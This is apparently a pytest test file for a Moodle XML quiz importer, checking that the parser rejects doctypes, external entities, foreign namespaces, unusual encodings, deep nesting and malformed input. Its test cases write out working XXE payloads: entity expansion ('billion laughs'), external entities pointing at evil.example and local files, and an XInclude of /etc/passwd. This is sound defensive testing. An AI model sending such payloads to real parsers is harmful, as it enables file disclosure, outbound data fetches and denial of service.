"""Files that want the reader of XML to do more than read. No socket is opened."""

import socket

import pytest

from quiz.exchange.items import FileFault
from quiz.exchange.moodle_xml.elements import DEEPEST, ENCODED, FOREIGN, HAS_TYPE, TOO_DEEP, tree

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
SECRET = "PeriwinkleSecret"


@pytest.fixture(autouse=True)
def _no_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("a socket was opened")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def refusal(text):
    with pytest.raises(FileFault) as error:
        tree(text)
    return error.value.faults


@pytest.mark.parametrize(
    "text",
    [
        f'<!DOCTYPE quiz [<!ENTITY l0 "lol">{LAUGHS}]><quiz>&l9;</quiz>',
        '<!DOCTYPE quiz [<!ENTITY x SYSTEM "file://{file}">]><quiz>&x;</quiz>',
        '<!DOCTYPE quiz [<!ENTITY x SYSTEM "http://evil.example/x">]><quiz>&x;</quiz>',
        '<!DOCTYPE quiz [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><quiz/>',
        '<!DOCTYPE quiz SYSTEM "http://evil.example/x.dtd"><quiz/>',
        '<!DOCTYPE quiz PUBLIC "-//x//y" "http://evil.example/x.dtd"><quiz/>',
        '<?xml version="1.0" standalone="no"?><!DOCTYPE quiz SYSTEM "file://{file}"><quiz/>',
        "<!DOCTYPE quiz><quiz/>",
        f'<!DOCTYPE quiz [<!ENTITY a "{"x" * 50_000}">]><quiz>{"&a;" * 10_000}</quiz>',
    ],
)
def test_no_document_type_and_so_no_entity(tmp_path, text):
    file = tmp_path / "secret.txt"
    file.write_text(SECRET)

    assert refusal(text.replace("{file}", str(file))) == [f"Line 1: {HAS_TYPE}"]


@pytest.mark.parametrize("name", ["xi:include", "xsl:template", "a:b"])
def test_no_other_vocabulary(name):
    prefix = name.split(":")[0]
    text = f'<quiz xmlns:{prefix}="http://www.w3.org/2001/XInclude">\n<{name} href="file:///etc/passwd"/></quiz>'

    assert refusal(text) == [f"Line 2: {FOREIGN.format(name=name)}"]


@pytest.mark.parametrize("encoding", ["UTF-7", "UTF-16", "ISO-8859-1", "cp037"])
def test_no_encoding_that_hides_signs(encoding):
    text = f'<?xml version="1.0" encoding="{encoding}"?><quiz>+ADwAIQ-DOCTYPE</quiz>'

    assert refusal(text) == [f"Line 1: {ENCODED.format(encoding=encoding)}"]


def test_no_thousand_levels():
    assert refusal("<quiz>" + "<a>" * 1_000 + "</a>" * 1_000 + "</quiz>") == [f"Line 1: {TOO_DEEP}"]
    assert tree("<a>" * DEEPEST + "</a>" * DEEPEST).name == "a"


def test_no_crowd_of_elements(monkeypatch):
    monkeypatch.setattr("quiz.exchange.moodle_xml.elements.MOST", 3)

    assert refusal("<quiz><a/><a/><a/></quiz>")[0].startswith("Line 1: the file has more than")


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        ("", "Line 1: the XML breaks off at character 1: no element found."),
        ("<quiz>\n<a></b></quiz>", "Line 2: the XML breaks off at character 6: mismatched tag."),
        ("<quiz>&nbsp;</quiz>", "Line 1: the XML breaks off at character 7: undefined entity."),
        ("<quiz>a & b</quiz>", "Line 1: the XML breaks off at character 10: not well-formed (invalid token)."),
        ("<quiz>\x00</quiz>", "Line 1: the XML breaks off at character 7: not well-formed (invalid token)."),
        ("<quiz a='1' a='2'/>", "Line 1: the XML breaks off at character 13: duplicate attribute."),
        ("<quiz></quiz><quiz></quiz>", "Line 1: the XML breaks off at character 14: junk after document element."),
    ],
)
def test_what_is_no_xml_says_where(text, fault):
    assert refusal(text) == [fault]


def test_elements_know_their_line_and_their_text():
    root = tree(
        '<?xml version="1.0" encoding="utf-8"?>\n<quiz>\n<a b="c"><text>x &lt;<![CDATA[<y>]]></text></a></quiz>'
    )

    (child,) = root.all("a")
    assert (child.line, child.attributes, root.said("a")) == (3, {"b": "c"}, "x <<y>")
